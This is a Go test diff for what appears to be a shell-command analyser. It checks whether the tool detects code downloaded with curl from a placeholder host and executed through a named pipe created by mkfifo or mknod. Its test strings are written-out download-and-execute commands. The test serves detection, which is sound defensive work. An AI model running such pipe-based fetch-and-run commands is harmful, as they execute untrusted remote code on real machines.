@@ -242,3 +242,30 @@ func TestSourceNames(t *testing.T) {
 		seen[s.String()] = true
 	}
 }
+
+// Who reads a named pipe may be started before its writer.
+func TestNamedPipes(t *testing.T) {
+	for _, c := range []struct {
+		why, source string
+		want        parser.Truth
+	}{
+		{"the reader first", "mkfifo p; sh < p & curl http://h/x > p", parser.Yes},
+		{"a file in the place of the pipe", "sh < p & curl http://h/x > p", parser.No},
+		{"through a filter", "mkfifo p q; sh < q & cat p > q & curl http://h/x > p", parser.Yes},
+		{"with a mode", "mkfifo -m 600 p; . ./p & curl -o p http://h/x", parser.Yes},
+		{"by mknod", "mknod /tmp/p p; sh /tmp/p & curl http://h/x > /tmp/p", parser.Yes},
+		{"another pipe", "mkfifo p q; sh < q & curl http://h/x > p", parser.No},
+		{"before there is one", "sh < p; mkfifo p; curl http://h/x > p", parser.No},
+	} {
+		invs, g := read(t, c.source)
+		best := parser.No
+		for _, v := range invs {
+			for i := range v.Effects {
+				if e := &v.Effects[i]; e.Kind&(grammar.Runs|grammar.Evaluates) != 0 {
+					best = best.Or(g.From(flow.Download, v, e))
+				}
+			}
+		}
+		assert.Equal(t, c.want, best, "%s: %s", c.why, c.source)
+	}
+}
